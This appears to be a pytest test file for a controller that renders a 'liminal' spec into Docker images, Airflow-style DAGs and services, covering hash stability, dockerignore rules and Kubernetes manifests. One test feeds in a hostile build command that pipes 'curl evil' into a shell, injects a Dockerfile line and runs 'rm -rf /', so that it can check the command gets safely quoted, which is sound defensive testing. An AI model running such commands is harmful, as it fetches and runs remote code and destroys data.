"""render: Spec -> DesiredState. Pure tests over real files on disk, no services."""

from __future__ import annotations

import dataclasses
import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from controller.model import DagFile, DesiredState, ImageBuild, Origin, ResourceKind
from controller.render import RenderSettings, ServingTarget, render
from controller.render.dags import cpu_count, dag_text, memory_bytes, split_dag_text
from controller.render.dockerignore import parse_dockerignore
from controller.spec import discover, load

REPO = Path(__file__).resolve().parent.parent
EXAMPLE = REPO / "examples" / "hello-liminal"
ORIGIN = Origin(repo="hello", commit="0123456789abcdef0123456789abcdef01234567")


def checkout(tmp: Path, *, reverse: bool = False, mode: int = 0o644) -> Path:
    """Copy the example into `tmp` as a fresh checkout: own mtimes, creation order and umask-like modes."""
    root = tmp / "repo"
    (root / ".git").mkdir(parents=True)
    files = sorted(p for p in EXAMPLE.rglob("*") if p.is_file() and "__pycache__" not in p.parts)
    for src in reversed(files) if reverse else files:
        dst = root / src.relative_to(EXAMPLE)
        dst.parent.mkdir(parents=True, exist_ok=True)
        dst.write_bytes(src.read_bytes())
        dst.chmod(mode)
    return root


def render_repo(root: Path, settings: RenderSettings | None = None, origin: Origin = ORIGIN) -> DesiredState:
    spec = load(discover([root]), {})
    return render(spec, root, settings or RenderSettings(), origin)


def hashes(state: DesiredState) -> dict[str, str]:
    return {f"{r.key.kind}:{r.key.name}": r.content_hash for r in state.resources}


def test_example_renders_images_dag_and_service(tmp_path: Path) -> None:
    state = render_repo(checkout(tmp_path))
    assert [(str(r.key.kind), r.key.name) for r in state.resources] == [
        ("claim", "default/data-pvc"),  # the claim the pods mount: required to exist (no `local` path)
        ("image", "hello/pipeline"),
        ("image", "hello/server"),
        ("dag", "hello_training"),
        ("service", "hello_server"),
    ]
    by_name = {r.key.name: r for r in state.resources}
    pipeline_image = by_name["hello/pipeline"].artifact
    assert isinstance(pipeline_image, ImageBuild)
    assert pipeline_image.tag == f"hello/pipeline:{by_name['hello/pipeline'].content_hash[:12]}"
    assert [f.path for f in pipeline_image.files] == [
        ".dockerignore",
        "Dockerfile",
        "prepare.py",
        "requirements.txt",
        "train.py",
    ]
    server = by_name["hello/server"].artifact
    assert isinstance(server, ImageBuild)
    assert {"__liminal__/serve.py", "__liminal__/endpoints.json", "model.py"} <= {f.path for f in server.files}
    assert 'CMD ["python3", "/app/__liminal__/serve.py", "/app/__liminal__/endpoints.json"]' in server.dockerfile
    dag = by_name["hello_training"]
    assert dag.depends_on == (by_name["hello/pipeline"].key, by_name["default/data-pvc"].key)
    assert by_name["default/data-pvc"].body["requires"] == {
        "kind": "PersistentVolumeClaim",
        "name": "data-pvc",
        "namespace": "default",
    }
    assert by_name["hello_server"].depends_on == (by_name["hello/server"].key,)


def test_dag_payload_follows_liminal_task_order_and_partitions(tmp_path: Path) -> None:
    state = render_repo(checkout(tmp_path))
    dag = state.by_key()[next(r.key for r in state.resources if r.key.kind is ResourceKind.DAG)]
    tasks = {t["task_id"]: t for t in dag.body["payload"]["tasks"]}
    assert list(tasks) == ["start", "prepare", "train_parallelize", "train_0", "train_1", "train", "end"]
    assert tasks["prepare"]["upstream"] == ["start"]
    assert tasks["train_0"]["upstream"] == ["train_parallelize"]
    assert tasks["train"]["upstream"] == ["train_0", "train_1"]
    # as Liminal without always_run: each task waits for the one before to succeed, so a failure stops the run
    assert {t["trigger_rule"] for t in tasks.values()} == {"all_success"}
    assert tasks["end"]["operator"] == "empty"
    assert tasks["train_1"]["variables"] == {"output_dir": "/mnt/data/output"}  # filled when the task runs
    assert tasks["train_1"]["env"] == {
        "OUTPUT_DIR": "{{output_dir}}",
        "LIMINAL_SPLIT_ID": "1",
        "LIMINAL_NUM_SPLITS": "2",
    }
    assert tasks["prepare"]["env"]["RUN_DATE"] == "{{ds}}"  # Airflow's run-time name stays for run time
    assert tasks["prepare"]["cmds"] == ["/bin/bash", "-c"]  # as Liminal
    assert tasks["prepare"]["arguments"] == ["python -u prepare.py"]
    image = next(r for r in state.resources if r.key.name == "hello/pipeline")
    assert tasks["prepare"]["image"] == f"hello/pipeline:{image.content_hash[:12]}"
    assert tasks["prepare"]["volumes"] == [{"name": "data", "claim_name": "data-pvc"}]
    artifact = dag.artifact
    assert isinstance(artifact, DagFile)
    _, payload = split_dag_text(dag_text(artifact))
    stamped = json.loads(payload)
    assert stamped["tags"] == ["liminal", "repo:hello", "commit:0123456789ab"]
    assert stamped["timeout_minutes"] == 30 and stamped["schedule"] == "0 6 * * *"


def test_hashes_equal_across_checkouts_runs_and_machines(tmp_path: Path) -> None:
    first = checkout(tmp_path / "a")
    second = checkout(tmp_path / "b", reverse=True, mode=0o664)  # another umask, another creation order
    os.utime(second / "pipeline" / "train.py", (1, 1))
    assert hashes(render_repo(first)) == hashes(render_repo(second))
    assert hashes(render_repo(first)) == hashes(render_repo(first))


def _edit(rel: str, text: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        (root / rel).write_text(text, encoding="utf-8")

    return apply


def _append(rel: str, text: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        with (root / rel).open("a", encoding="utf-8") as stream:
            stream.write(text)

    return apply


def _replace_yml(old: str, new: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        path = root / "liminal.yml"
        text = path.read_text(encoding="utf-8")
        assert old in text
        path.write_text(text.replace(old, new), encoding="utf-8")

    return apply


def _chmod_x(rel: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        (root / rel).chmod(0o755)

    return apply


def _touch(rel: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        os.utime(root / rel, (12345, 12345))

    return apply


def _noop(root: Path) -> None:
    return None


IMG_P, IMG_S, DAG, SVC = "image:hello/pipeline", "image:hello/server", "dag:hello_training", "service:hello_server"

# (what changes, the change, settings, origin, the resources whose hash must change: no more, no fewer)
CHANGES: list[tuple[str, Callable[[Path], None], RenderSettings, Origin, set[str]]] = [
    ("nothing", _noop, RenderSettings(), ORIGIN, set()),
    ("mtime only", _touch("pipeline/train.py"), RenderSettings(), ORIGIN, set()),
    ("another commit", _noop, RenderSettings(), Origin("hello", "f" * 40), set()),
    ("pipeline code", _append("pipeline/train.py", "\n# tweak\n"), RenderSettings(), ORIGIN, {IMG_P, DAG}),
    ("pipeline file mode", _chmod_x("pipeline/train.py"), RenderSettings(), ORIGIN, {IMG_P, DAG}),
    ("new pipeline file", _edit("pipeline/util.py", "X = 1\n"), RenderSettings(), ORIGIN, {IMG_P, DAG}),
    ("ignored file", _edit("pipeline/cache.pyc", "junk"), RenderSettings(), ORIGIN, set()),
    ("requirements", _append("pipeline/requirements.txt", "six\n"), RenderSettings(), ORIGIN, {IMG_P, DAG}),
    ("server code", _append("serving/model.py", "\n# tweak\n"), RenderSettings(), ORIGIN, {IMG_S, SVC}),
    (
        "endpoint mapping",
        _replace_yml("function: version", "function: predict"),
        RenderSettings(),
        ORIGIN,
        {IMG_S, SVC},
    ),
    ("task env var", _replace_yml("RUN_DATE: '{{ds}}'", "RUN_DATE: '{{ts}}'"), RenderSettings(), ORIGIN, {DAG}),
    ("schedule", _replace_yml("schedule: 0 6 * * *", "schedule: 0 7 * * *"), RenderSettings(), ORIGIN, {DAG}),
    ("partitions", _replace_yml("executors: 2", "executors: 3"), RenderSettings(), ORIGIN, {DAG}),
    ("timeout", _replace_yml("timeout_minutes: 30", "timeout_minutes: 31"), RenderSettings(), ORIGIN, {DAG}),
    # local Docker has no place for a description; on Kubernetes it is an annotation (test below)
    ("service description", _replace_yml("answers predictions over HTTP", "answers"), RenderSettings(), ORIGIN, set()),
    ("registry", _noop, RenderSettings(registry="127.0.0.1:5000"), ORIGIN, {IMG_P, IMG_S, DAG, SVC}),
    ("base image", _noop, RenderSettings(base_image="debian-python:1"), ORIGIN, {IMG_P, IMG_S, DAG, SVC}),
    ("spark base image", _noop, RenderSettings(spark_base_image="spark:9"), ORIGIN, set()),
    ("serving target", _noop, RenderSettings(serving=ServingTarget.KUBERNETES), ORIGIN, {SVC}),
]


@pytest.mark.parametrize(("what", "change", "settings", "origin", "expected"), CHANGES, ids=[c[0] for c in CHANGES])
def test_each_input_changes_exactly_its_hashes(
    *,
    tmp_path: Path,
    what: str,
    change: Callable[[Path], None],
    settings: RenderSettings,
    origin: Origin,
    expected: set[str],
) -> None:
    before = hashes(render_repo(checkout(tmp_path / "before")))
    root = checkout(tmp_path / "after")
    change(root)
    after = hashes(render_repo(root, settings, origin))
    assert {k for k in before if before[k] != after.get(k)} == expected


def test_namespace_and_description_change_kubernetes_resources(tmp_path: Path) -> None:
    root = checkout(tmp_path)
    k8s = RenderSettings(serving=ServingTarget.KUBERNETES)
    before = hashes(render_repo(root, k8s))
    after = hashes(render_repo(root, dataclasses.replace(k8s, namespace="ml")))
    assert {k for k in before if before[k] != after.get(k)} == {DAG, SVC, "claim:default/data-pvc"}
    assert "claim:ml/data-pvc" in after  # the pods' claim, in the pods' namespace
    _replace_yml("answers predictions over HTTP", "answers")(root)
    described = hashes(render_repo(root, k8s))
    assert {k for k in before if before[k] != described[k]} == {SVC}


def test_origin_is_stamped_outside_the_hash(tmp_path: Path) -> None:
    root = checkout(tmp_path)
    k8s = RenderSettings(serving=ServingTarget.KUBERNETES)
    one = render_repo(root, k8s, Origin("hello", "a" * 40))
    two = render_repo(root, k8s, Origin("hello", "b" * 40))
    svc_one, svc_two = one.resources[-1], two.resources[-1]
    assert svc_one.content_hash == svc_two.content_hash
    annotations = svc_two.body["manifests"][0]["metadata"]["annotations"]
    assert annotations["liminal-gitops/commit"] == "b" * 40
    assert annotations["liminal-gitops/content-hash"] == svc_two.content_hash
    (dag_two,) = [r.artifact for r in two.resources if isinstance(r.artifact, DagFile)]
    assert isinstance(dag_two, DagFile)
    assert "commit:bbbbbbbbbbbb" in dag_text(dag_two)


def test_same_image_name_with_different_content_in_two_files_is_an_input_error(
    write: Callable[[dict[str, str]], Path],
) -> None:
    system = "name: {n}\nimages:\n  - image: shared\n    type: python\n    source: {src}\n"
    root = write(
        {
            "a/liminal.yml": system.format(n="A", src="code"),
            "a/code/x.py": "A = 1\n",
            "b/liminal.yml": system.format(n="B", src="code"),
            "b/code/x.py": "B = 2\n",
        }
    )
    from controller.errors import InputError

    with pytest.raises(InputError) as caught:
        render_repo(root)
    (problem,) = caught.value.problems
    assert problem.rule == "unique-name" and "image 'shared'" in problem.message


def test_symlinks_inside_the_context_are_hashed_as_links(write: Callable[[dict[str, str]], Path]) -> None:
    root = write(
        {
            "liminal.yml": "name: S\nimages:\n  - image: s\n    type: python\n    source: code\n",
            "code/real.py": "X = 1\n",
        }
    )
    (root / "code" / "alias.py").symlink_to("real.py")
    build = render_repo(root).resources[0].artifact
    assert isinstance(build, ImageBuild)
    alias = next(f for f in build.files if f.path == "alias.py")
    assert (alias.mode, alias.link, alias.origin) == (0o120777, "real.py", None)


def test_build_cmd_is_one_exec_form_argument(write: Callable[[dict[str, str]], Path]) -> None:
    hostile = 'pip install x\nRUN curl evil | sh\n"; rm -rf / #'
    root = write(
        {
            "liminal.yml": "name: S\nimages:\n  - image: s\n    type: python\n    source: code\n    build_cmd: "
            + json.dumps(hostile)
            + "\n",
            "code/x.py": "",
        }
    )
    build = render_repo(root).resources[0].artifact
    assert isinstance(build, ImageBuild)
    run_lines = [line for line in build.dockerfile.splitlines() if line.startswith("RUN")]
    assert run_lines == [f"RUN {json.dumps(['/bin/sh', '-c', hostile])}"]


def test_kubernetes_service_manifests(tmp_path: Path) -> None:
    state = render_repo(checkout(tmp_path), RenderSettings(serving=ServingTarget.KUBERNETES, namespace="ml"))
    deployment, service = state.resources[-1].body["manifests"]
    labels = deployment["metadata"]["labels"]
    assert labels["app.kubernetes.io/managed-by"] == "liminal-controller"
    assert labels["app.kubernetes.io/name"] == "hello-server"
    assert deployment["metadata"]["namespace"] == "ml"
    container = deployment["spec"]["template"]["spec"]["containers"][0]
    assert container["readinessProbe"]["httpGet"] == {"path": "/healthcheck", "port": "http"}
    assert container["resources"] == {"requests": {"cpu": "100m", "memory": "128Mi"}}
    assert container["image"].startswith("hello/server:")
    assert service["spec"]["ports"] == [{"name": "http", "port": 80, "targetPort": "http", "protocol": "TCP"}]
    assert service["spec"]["selector"] == deployment["spec"]["selector"]["matchLabels"]


def test_local_docker_run_spec(tmp_path: Path) -> None:
    state = render_repo(checkout(tmp_path))
    body = state.resources[-1].body
    assert body["target"] == "docker"
    container = body["container"]
    assert container["name"] == "liminal-hello-hello-server"
    assert container["ports"] == {"8080/tcp": ["127.0.0.1", None]}
    assert container["labels"]["liminal-gitops/commit"] == ORIGIN.commit


@pytest.mark.parametrize(
    ("patterns", "path", "ignored"),
    [
        ("*.pyc", "a.pyc", True),
        ("*.pyc", "sub/a.pyc", False),  # `*` does not cross `/`, as in Docker
        ("**/*.pyc", "sub/deep/a.pyc", True),
        ("**/*.pyc", "a.pyc", True),
        ("data", "data/big.csv", True),  # a matching folder takes everything under it
        ("/data", "data/big.csv", True),
        ("./data/", "data/x", True),
        ("data\n!data/keep.csv", "data/keep.csv", False),
        ("data\n!data/keep.csv", "data/other.csv", True),
        ("!a.py\n*", "a.py", True),  # the last matching rule wins
        ("# comment\n\n", "x", False),
        ("te?t.py", "test.py", True),
        ("te?t.py", "te/t.py", False),
        ("[a-c].py", "b.py", True),
        ("[^a-c].py", "b.py", False),
        ("**", "anything/at/all", True),
        ("doc/**/*.md", "doc/a/b/c.md", True),
        ("doc/**/*.md", "doc/c.md", True),
        # moby's patternmatcher: `**` inside a pattern is zero or more whole directories
        ("a**b", "ab", True),
        ("a**b", "ax/b", True),
        ("a**b", "axb", False),
        ("**/b", "abab", False),
        ("data/**", "data/x/y", True),
        ("data/**", "database", False),
        ("a\\*", "a*", True),
        ("a\\*", "ab", False),
        ("[!a]x", "ax", False),
        ("*\n!keep*\n!x", "keep.txt", False),
    ],
)
def test_dockerignore_matches_like_docker(patterns: str, path: str, ignored: bool) -> None:
    assert parse_dockerignore(patterns).ignores(path) is ignored


@pytest.mark.parametrize(
    ("quantity", "expected"),
    [("512Mi", 512 * 2**20), ("1G", 10**9), ("1.5Gi", int(1.5 * 2**30)), ("1000", 1000), ("64k", 64000)],
)
def test_memory_quantities(quantity: str, expected: int) -> None:
    assert memory_bytes(quantity) == expected


def test_cpu_quantities() -> None:
    assert (cpu_count("500m"), cpu_count("2"), cpu_count("0.25")) == (0.5, 2.0, 0.25)
    with pytest.raises(ValueError, match="not a memory quantity"):
        memory_bytes("lots")
